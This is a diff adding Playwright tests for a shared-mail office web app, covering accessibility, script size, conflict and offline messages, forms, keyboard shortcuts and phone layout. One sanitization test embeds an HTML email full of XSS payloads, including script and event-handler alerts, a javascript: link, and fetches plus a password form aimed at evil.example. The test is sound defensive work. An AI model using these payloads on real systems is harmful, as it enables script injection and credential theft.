@@ -1,0 +1,204 @@
+import { gzipSync } from "node:zlib";
+import AxeBuilder from "@axe-core/playwright";
+import { expect, test } from "@tests/support/office-in-browser";
+
+const MAX_SCRIPT_BYTES = 180 * 1024;
+
+test("no screen has a serious problem of accessibility", async ({ page, signIn }) => {
+  const seriousProblems = async () => {
+    const { violations } = await new AxeBuilder({ page }).analyze();
+    return violations
+      .filter(({ impact }) => impact === "serious" || impact === "critical")
+      .map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`);
+  };
+  await page.goto("/sign-in");
+  expect(await seriousProblems()).toEqual([]);
+  await signIn("Ines Varga", page);
+  for (const standing of ["To sort", "Our move", "Waiting for reply"]) {
+    await page.getByRole("link", { name: new RegExp(`^${standing}`) }).click();
+    await page.getByRole("main", { name: standing }).waitFor();
+    expect(await seriousProblems()).toEqual([]);
+  }
+  await page.getByRole("link", { name: "Oak for the impost, second quotation" }).click();
+  await page.getByRole("complementary", { name: "Docket" }).waitFor();
+  expect(await seriousProblems()).toEqual([]);
+  await page.keyboard.press("r");
+  await page.getByRole("textbox", { name: "Text" }).waitFor();
+  expect(await seriousProblems()).toEqual([]);
+  for (const path of ["/office/records", "/office/records/P-26-040", "/office/search?q=tuning"]) {
+    await page.goto(path);
+    expect(await seriousProblems()).toEqual([]);
+  }
+});
+
+test("the main screen loads at most 180 KB of script", async ({ page, signIn, running }) => {
+  const scripts = new Map<string, number>();
+  page.on("response", async (response) => {
+    if (response.request().resourceType() === "script")
+      scripts.set(response.url(), gzipSync(await response.body()).byteLength);
+  });
+  await signIn("Ines Varga");
+  scripts.clear();
+  await page.goto(`${running.url}/office/our-move`);
+  await page.getByRole("main", { name: "Our move" }).waitFor();
+  await page.waitForLoadState("networkidle");
+  const total = [...scripts.values()].reduce((sum, bytes) => sum + bytes, 0);
+  expect(scripts.size).toBeGreaterThan(2);
+  expect(total).toBeGreaterThan(50 * 1024);
+  expect(total).toBeLessThanOrEqual(MAX_SCRIPT_BYTES);
+});
+
+test("hostile HTML shows harmless: nothing runs, nothing is fetched, nothing can be sent", async ({
+  page,
+  running,
+  signIn,
+}) => {
+  const outside: string[] = [];
+  page.on("request", (request) => {
+    if (!request.url().startsWith(running.url) && !request.url().startsWith("data:")) outside.push(request.url());
+  });
+  page.on("dialog", (dialog) => {
+    outside.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  const subject = "A present for you";
+  await signIn("Ines Varga");
+  await running.send({
+    from: "Prize Office <winner@luckypost.example>",
+    subject,
+    headers: { "Content-Type": "text/html" },
+    body: `<body onload="alert(1)"><script>alert(2);fetch("https://evil.example/a")</script><img src="https://evil.example/b.gif" onerror="alert(3)">
+      <svg onload="alert(4)"></svg><form action="https://evil.example"><input name="pass"><button>Open</button></form>
+      <iframe src="https://evil.example/c"></iframe><a href="javascript:alert(5)">Here</a><style>@import url(https://evil.example/d)</style>
+      <p style="background:url(https://evil.example/e)">You have won.</p><meta http-equiv="refresh" content="0;url=https://evil.example/f">`,
+  });
+  await page.getByRole("link", { name: subject }).click();
+  await page.getByRole("button", { name: "Show as it was sent" }).click();
+  const frame = page.frameLocator("iframe");
+  await expect(frame.getByText("You have won.")).toBeVisible();
+  await expect(frame.locator("script, form, input, iframe, svg, img")).toHaveCount(0);
+  await frame.getByText("Here").click();
+  await expect(page.getByRole("heading", { name: subject })).toBeVisible();
+  expect(outside).toEqual([]);
+});
+
+test("a page that is no longer true gets the new state and a message", async ({ page, running, signIn }) => {
+  const subject = "Who takes this one?";
+  await running.send({ subject });
+  // Her page hears of no change, as on a line that comes and goes.
+  await page.route("**/live", (route) => route.abort());
+  const ines = await signIn("Ines Varga", page);
+  await ines.getByRole("link", { name: subject }).click();
+  await ines.getByRole("toolbar", { name: "Decide" }).waitFor();
+  const tobias = await signIn(
+    "Tobias Lund",
+    await (await page.context().browser()?.newContext({ baseURL: running.url }))?.newPage(),
+  );
+  await tobias.getByRole("link", { name: subject }).click();
+  await tobias.getByRole("toolbar", { name: "Decide" }).waitFor();
+  await tobias.keyboard.press("s");
+  await expect(tobias.getByText(`Settled: ${subject}`)).toBeVisible();
+
+  await ines.keyboard.press("b");
+  await expect(ines.getByText("Not done: Tobias Lund settled it meanwhile.")).toBeVisible();
+  await expect(
+    ines.getByRole("navigation", { name: "Conversations" }).getByRole("link", { name: subject }),
+  ).toBeHidden();
+  await ines.getByRole("link", { name: /^Settled/ }).click();
+  await expect(ines.getByRole("link", { name: subject })).toBeVisible();
+});
+
+test("a decision that does not reach the server comes back with a message", async ({ page, running, signIn }) => {
+  const subject = "Line is down";
+  await signIn("Ines Varga");
+  await running.send({ subject });
+  await page.getByRole("link", { name: subject }).click();
+  await page.getByRole("toolbar", { name: "Decide" }).waitFor();
+  await page.context().setOffline(true);
+  await page.keyboard.press("b");
+  await expect(page.getByText("Not done: the server did not answer.")).toBeVisible();
+  await page.context().setOffline(false);
+  await page.getByRole("button", { name: "Try again" }).click();
+  await page.getByRole("link", { name: /^To sort/ }).click();
+  await expect(page.getByRole("link", { name: subject })).toBeVisible();
+});
+
+test("forms say beside the field what is wrong and keep what was typed", async ({ page, signIn, running }) => {
+  await page.goto("/sign-in");
+  await page.getByRole("textbox", { name: "Name" }).fill("ines");
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await expect(page.getByText("Write your password.")).toBeVisible();
+  await expect(page.getByRole("textbox", { name: "Name" })).toHaveValue("ines");
+  await page.getByRole("textbox", { name: "Password" }).fill("wrong");
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await expect(page.getByRole("alert")).toHaveText("Name and password do not go together. Check both.");
+
+  const subject = "Wrong address";
+  await signIn("Petra Rask", page);
+  await running.send({ subject });
+  await page.getByRole("link", { name: subject }).click();
+  await page.getByRole("button", { name: /^Answer/ }).click();
+  await page.getByRole("textbox", { name: "To", exact: true }).fill("vane at home");
+  await page.getByRole("button", { name: /^Send/ }).click();
+  await expect(page.getByText("Not an address: vane at home.")).toBeVisible();
+  await expect(page.getByText("Write something first.")).toBeVisible();
+  await page.getByRole("textbox", { name: "Text" }).fill("Kept through a reload.");
+  await page.reload();
+  await page.getByRole("button", { name: /^Answer/ }).click();
+  await expect(page.getByRole("textbox", { name: "Text" })).toHaveText("Kept through a reload.");
+  await expect(page.getByRole("textbox", { name: "To", exact: true })).toHaveValue("vane at home");
+});
+
+test("everything is decided by key, from the list", async ({ running, signIn }) => {
+  const ines = await signIn("Ines Varga");
+  const subjects = ["Key one", "Key two", "Key three"];
+  for (const subject of subjects) await running.send({ subject, from: "Hester Quill <wardens@stbrannoc.example>" });
+  const row = (subject: string) => ines.getByRole("link", { name: subject });
+  for (const subject of subjects) await expect(row(subject)).toBeVisible();
+
+  await row("Key three").focus();
+  await ines.keyboard.press("s");
+  await expect(ines.getByText("Settled: Key three")).toBeVisible();
+  await expect(row("Key three")).toBeHidden();
+  await row("Key two").focus();
+  await ines.keyboard.press("l");
+  await ines.getByRole("button", { name: /in 5 working days/ }).click();
+  await expect(ines.getByText("Resting: Key two")).toBeVisible();
+  await row("Key one").focus();
+  await ines.keyboard.press("w");
+  await ines.getByRole("button", { name: "Without a day" }).click();
+  await expect(ines.getByText("Waiting for reply: Key one")).toBeVisible();
+  await expect(row("Key one")).toBeHidden();
+  await ines.keyboard.press("z");
+  await expect(row("Key one")).toBeVisible();
+  await row("Key one").focus();
+  await ines.keyboard.press("n");
+  await ines.getByRole("textbox", { name: "Note" }).fill("Ask Col first");
+  await ines.keyboard.press("Control+Enter");
+  await ines.keyboard.press("Enter");
+  await expect(ines.getByText("Ask Col first")).toBeVisible();
+  await ines.keyboard.press("b");
+  await expect(ines.getByText("In the bin: Key one")).toBeVisible();
+  await ines.keyboard.press("?");
+  await expect(ines.getByRole("dialog", { name: "Keys" })).toContainText("waiting for reply");
+});
+
+test("on a phone one reads, assigns, settles and answers", async ({ page, running, signIn }) => {
+  await page.setViewportSize({ width: 390, height: 780 });
+  const subject = "From a pocket";
+  await signIn("Col Whitaker");
+  await running.send({ subject });
+  await page.getByRole("link", { name: subject }).click();
+  await page.getByRole("button", { name: /^Assign/ }).click();
+  await page.getByRole("option", { name: /Col Whitaker/ }).click();
+  await expect(page.getByText(`Assigned to Col Whitaker: ${subject}`)).toBeVisible();
+  await page.getByRole("link", { name: /^Our move/ }).click();
+  await page.getByRole("link", { name: subject }).click();
+  await page.getByRole("button", { name: /^Answer/ }).click();
+  await page.getByRole("textbox", { name: "Text" }).fill("On my way.");
+  await page.getByRole("radio", { name: "Settle it" }).click();
+  await page.getByRole("button", { name: /^Send/ }).click();
+  await expect(page.getByRole("heading", { name: "Settled" })).toBeVisible();
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+  expect(overflow).toBeLessThanOrEqual(0);
+});
